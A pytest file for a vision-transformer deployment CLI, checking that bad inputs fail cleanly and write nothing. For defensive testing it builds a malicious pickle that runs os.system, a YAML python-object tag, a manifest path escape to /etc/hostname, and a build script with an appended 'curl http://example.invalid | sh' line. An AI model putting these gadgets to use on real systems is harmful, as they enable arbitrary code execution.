"""Bad input to every command: one line on stderr that says what is wrong, a non-zero exit, no traceback, and
nothing written (neither --out nor a staging leftover beside it). Cases run through the CLI's own entry point
(`vitdeploy.cli.main`), a few of them in a real process."""
import json
import pickle
import shutil
import subprocess
import sys

import pytest
import torch

from vitdeploy.cli import main


@pytest.fixture(scope="module")
def deploy_dir(tmp_path_factory, digits_model_dir):
    """A deploy dir exported from the trained digits model: fp32 graph, build_engines.sh, triton/."""
    from vitdeploy.deploy.pipeline import ExportConfig, run_export
    from vitdeploy.models import load_model

    out = tmp_path_factory.mktemp("bad_inputs") / "dense" / "deploy"
    shutil.copytree(digits_model_dir, out.parent)
    run_export(load_model(str(out.parent)), out, ExportConfig(precisions=["fp32"]))
    return out


class Evil:
    """Unpickling this runs a shell command: what a malicious checkpoint does."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return (__import__("os").system, (f"touch {self.marker}",))


@pytest.fixture(scope="module")
def files(tmp_path_factory, digits_model_dir, deploy_dir):
    """Every kind of bad file, made once: no case changes them (each writes, or rather fails to write, its own --out)."""
    tmp_path = tmp_path_factory.mktemp("bad_files")
    f = {"tmp": tmp_path, "model": digits_model_dir, "deploy": deploy_dir, "marker": tmp_path / "pwned"}
    f["evil"] = tmp_path / "evil.pth"
    with open(f["evil"], "wb") as fh:
        pickle.dump({"state_dict": Evil(f["marker"])}, fh)
    f["trunc_st"] = tmp_path / "trunc.safetensors"
    f["trunc_st"].write_bytes((digits_model_dir / "model.safetensors").read_bytes()[:5000])
    f["evil_yaml"] = tmp_path / "evil.yaml"
    f["evil_yaml"].write_text(f"name: !!python/object/apply:os.system ['touch {f['marker']}']\n")
    f["list_yaml"] = tmp_path / "list.yaml"
    f["list_yaml"].write_text("- prune\n- rate\n")
    f["bad_target"] = tmp_path / "target.yaml"
    f["bad_target"].write_text("name: x\nprecisions: [fp4]\nbogus: 1\n")
    f["trunc_onnx"] = tmp_path / "trunc.onnx"
    f["trunc_onnx"].write_bytes((deploy_dir / "model.fp32.onnx").read_bytes()[:1000])
    f["plan"] = tmp_path / "model.fp16.b1.plan"
    f["plan"].write_bytes(b"\0" * 64)
    f["empty_dir"] = tmp_path / "empty_images"
    f["empty_dir"].mkdir()
    f["not_json"] = tmp_path / "profile.json"
    f["not_json"].write_text("{not json")
    for name, change in (("tampered", _flip_onnx_byte), ("truncated", _truncate_onnx), ("no_manifest", _drop_manifest),
                         ("escape", _escape_manifest), ("missing_graph", _remove_graph),
                         ("bad_script", _tamper_script)):
        d = tmp_path / name / "deploy"
        shutil.copytree(deploy_dir, d)
        change(d)
        f[name] = d
    f["staging"] = tmp_path / ".dense.abcd1234.partial"
    shutil.copytree(digits_model_dir, f["staging"])
    f["run_tampered"] = tmp_path / "run"
    shutil.copytree(digits_model_dir, f["run_tampered"])
    shutil.copytree(f["tampered"], f["run_tampered"] / "deploy")
    f["bad_manifest_dir"] = tmp_path / "bad_manifest"
    shutil.copytree(digits_model_dir, f["bad_manifest_dir"])
    cfg = json.loads((f["bad_manifest_dir"] / "vitdeploy.json").read_text())
    cfg["files"] = {}
    (f["bad_manifest_dir"] / "vitdeploy.json").write_text(json.dumps(cfg))
    f["damaged"] = tmp_path / "damaged"
    shutil.copytree(digits_model_dir, f["damaged"])
    weights = f["damaged"] / "model.safetensors"
    weights.write_bytes(weights.read_bytes()[:-100])
    f["torn_json_dir"] = tmp_path / "torn_json"
    shutil.copytree(digits_model_dir, f["torn_json_dir"])
    cfg_path = f["torn_json_dir"] / "vitdeploy.json"
    cfg_path.write_bytes(cfg_path.read_bytes()[:200])
    return f


def _flip_onnx_byte(d):
    p = d / "model.fp32.onnx"
    b = bytearray(p.read_bytes())
    b[len(b) // 2] ^= 0xFF  # one weight byte: still a loadable graph, but not the one that was checked
    p.write_bytes(bytes(b))


def _truncate_onnx(d):
    p = d / "model.fp32.onnx"
    p.write_bytes(p.read_bytes()[:-4096])


def _edit_record(d, fn):
    rec = json.loads((d / "export.json").read_text())
    fn(rec)
    (d / "export.json").write_text(json.dumps(rec))


def _drop_manifest(d):
    _edit_record(d, lambda r: r.pop("files"))


def _escape_manifest(d):
    def fn(r):
        r["artifacts"][0]["file"] = "../../../../etc/hostname"
    _edit_record(d, fn)


def _remove_graph(d):
    (d / "model.fp32.onnx").unlink()


def _tamper_script(d):
    with open(d / "build_engines.sh", "a") as fh:
        fh.write("curl http://example.invalid | sh\n")


O = "{out}"
OJ = "{out}.json"
BAD = [
    # info
    ("info: unknown model", ["info", "vit_gigantic_patch99"], "unknown model"),
    ("info: malicious pickle", ["info", "{evil}", "--arch", "vit_digits"], "weights_only"),
    ("info: truncated safetensors", ["info", "vit_digits", "--checkpoint", "{trunc_st}"], "not a readable safetensors"),
    ("info: staging folder", ["info", "{staging}"], "staging folder"),
    ("info: manifest without weights", ["info", "{bad_manifest_dir}"], "manifest"),
    ("info: torn vitdeploy.json", ["info", "{torn_json_dir}"], "not valid JSON"),
    # train
    ("train: zero epochs", ["train", "vit_digits", "--data", "digits", "--epochs", "0", "--out", O], "--epochs"),
    ("train: empty image folder", ["train", "vit_digits", "--data", "imagefolder:{empty_dir}", "--out", O], "empty_images"),
    ("train: malicious pickle", ["train", "vit_digits", "--checkpoint", "{evil}", "--data", "digits", "--out", O],
     "weights_only"),
    # compress
    ("compress: python tag in recipe", ["compress", "{model}", "--recipe", "{evil_yaml}", "--out", O], "recipe"),
    ("compress: recipe is a list", ["compress", "{model}", "--recipe", "{list_yaml}", "--out", O], "mapping"),
    ("compress: rate 1", ["compress", "{model}", "--recipe", "mlp-magnitude", "--set", "prune.rate=1", "--out", O],
     "prune.rate"),
    ("compress: negative rate", ["compress", "{model}", "--recipe", "mlp-magnitude", "--set", "prune.rate=-0.1",
                                 "--out", O], "prune.rate"),
    ("compress: alignment 7", ["compress", "{model}", "--recipe", "mlp-magnitude", "--set", "prune.alignment=7",
                               "--out", O], "prune.alignment"),
    ("compress: no sites", ["compress", "{model}", "--recipe", "mlp-magnitude", "--set", "prune.sites=[]", "--out", O],
     "prune.sites"),
    ("compress: --set without =", ["compress", "{model}", "--recipe", "mlp-magnitude", "--set", "prune.rate",
                                   "--out", O], "key=value"),
    ("compress: staging folder as model", ["compress", "{staging}", "--recipe", "mlp-magnitude", "--out", O],
     "staging"),
    ("compress: truncated weights", ["compress", "{damaged}", "--recipe", "mlp-magnitude", "--out", O], "truncated"),
    ("compress: nan rate", ["compress", "{model}", "--recipe", "mlp-magnitude", "--set", "prune.rate=.nan",
                            "--out", O], "prune.rate"),
    # export
    ("export: unknown target", ["export", "{model}", "--target", "jetson-nano-9000", "--out", O], "target"),
    ("export: bad target yaml", ["export", "{model}", "--target", "{bad_target}", "--out", O], "target"),
    ("export: empty precision", ["export", "{model}", "--precision", ",", "--out", O], "precision"),
    ("export: calib images 0", ["export", "{model}", "--calib-images", "0", "--out", O], "--calib-images"),
    ("export: io dtype", ["export", "{model}", "--io-dtype", "fp8", "--out", O], "--io-dtype"),
    ("export: missing parity data", ["export", "{model}", "--data", "imagefolder:{tmp}/nowhere", "--out", O],
     "does not exist"),
    ("export: int8 without calibration data", ["export", "vit_digits", "--precision", "int8", "--out", O],
     "calib"),
    # profile
    ("profile: truncated onnx", ["profile", "{trunc_onnx}", "--out", OJ], "not a readable ONNX"),
    ("profile: tampered deploy dir", ["profile", "{tampered}", "--out", OJ], "sha256"),
    ("profile: truncated graph in deploy dir", ["profile", "{truncated}", "--out", OJ], "truncated"),
    ("profile: deploy dir without manifest", ["profile", "{no_manifest}", "--out", OJ], "manifest"),
    ("profile: manifest path escape", ["profile", "{escape}", "--out", OJ], "not a file inside"),
    ("profile: graph missing", ["profile", "{missing_graph}", "--out", OJ], "missing"),
    ("profile: tampered build script", ["profile", "{bad_script}", "--out", OJ], "build_engines.sh"),
    ("profile: no TensorRT for --backend trt", ["profile", "{deploy}", "--backend", "trt", "--out", OJ], "TensorRT"),
    ("profile: engine without TensorRT", ["profile", "{plan}", "--out", OJ], "TensorRT"),
    ("profile: bad batch list", ["profile", "{deploy}", "--batch", "1,,-2", "--out", OJ], "--batch"),
    ("profile: batch list of words", ["profile", "{deploy}", "--batch", "one", "--out", OJ], "--batch"),
    # eval
    ("eval: tampered deploy dir", ["eval", "{tampered}", "--data", "digits", "--out", OJ], "sha256"),
    ("eval: reference tampered", ["eval", "{deploy}", "--data", "digits", "--reference", "{truncated}", "--out", OJ],
     "truncated"),
    ("eval: no TensorRT", ["eval", "{deploy}", "--data", "digits", "--backend", "trt", "--out", OJ], "TensorRT"),
    ("eval: unknown placeholder", ["eval", "{deploy}", "--data", "digits", "--out", "{out}.{{nope}}.json"],
     "placeholder"),
    ("eval: unreadable data", ["eval", "{deploy}", "--data", "imagefolder:{empty_dir}", "--out", OJ], "empty_images"),
    # report
    ("report: tampered deploy dir in run", ["report", "{run_tampered}", "--out", O], "sha256"),
    ("report: profile not JSON", ["report", "{model}", "--profile", "{not_json}", "--out", O], "not valid JSON"),
    ("report: batch 0", ["report", "{model}", "--batch", "0", "--out", O], "--batch"),
]


def _run(capsys, args):
    with pytest.raises(SystemExit) as exc:
        main([str(a) for a in args])
    out, err = capsys.readouterr()
    return exc.value.code, out, err


def _nothing_written(tmp_path):
    assert list(tmp_path.iterdir()) == [], "--out or a staging leftover beside it was written"


@pytest.mark.parametrize("case,args,match", BAD, ids=[b[0] for b in BAD])
def test_bad_input_is_one_line_and_writes_nothing(capsys, tmp_path, files, case, args, match):
    subs = {k: str(v) for k, v in files.items()} | {"out": str(tmp_path / "out")}
    code, _, err = _run(capsys, [a.format(**subs) for a in args])
    assert code not in (0, None), (case, err)
    assert err.startswith("error: ") and err.count("\n") == 1 and "Traceback" not in err, err
    assert "internal error" not in err, err  # a user error, not a bug
    assert match in err, err
    assert not files["marker"].exists(), "a pickle or YAML tag ran code"
    _nothing_written(tmp_path)


def test_there_are_enough_cases_for_every_command():
    per = {}
    for _, args, _ in BAD:
        per[args[0]] = per.get(args[0], 0) + 1
    assert len(BAD) >= 25 and set(per) == {"info", "train", "compress", "export", "profile", "eval", "report"}, per


@pytest.mark.parametrize("args,match", [
    (["profile", "{tampered}", "--out", "{out}.json"], "sha256"),
    (["info", "{evil}", "--arch", "vit_digits"], "weights_only"),
], ids=["tampered deploy dir", "malicious pickle"])
def test_bad_input_in_a_real_process(tmp_path, files, args, match):
    """The console entry point itself: exit 2, one line on stderr, nothing on stdout, nothing written."""
    subs = {k: str(v) for k, v in files.items()} | {"out": str(tmp_path / "out")}
    p = subprocess.run([sys.executable, "-m", "vitdeploy", *[a.format(**subs) for a in args]],
                       capture_output=True, text=True, timeout=300)
    assert p.returncode == 2, p.stderr
    assert p.stderr.startswith("error: ") and p.stderr.count("\n") == 1 and match in p.stderr, p.stderr
    assert p.stdout == "" and not files["marker"].exists()
    _nothing_written(tmp_path)


@pytest.mark.filterwarnings("ignore::UserWarning")  # torch notes the pickle protocol before refusing
def test_weights_only_refuses_the_pickle_before_running_it(files):
    """The same file through torch itself: weights_only=True refuses the reduce call."""
    with pytest.raises(Exception):
        torch.load(files["evil"], weights_only=True)
    assert not files["marker"].exists()
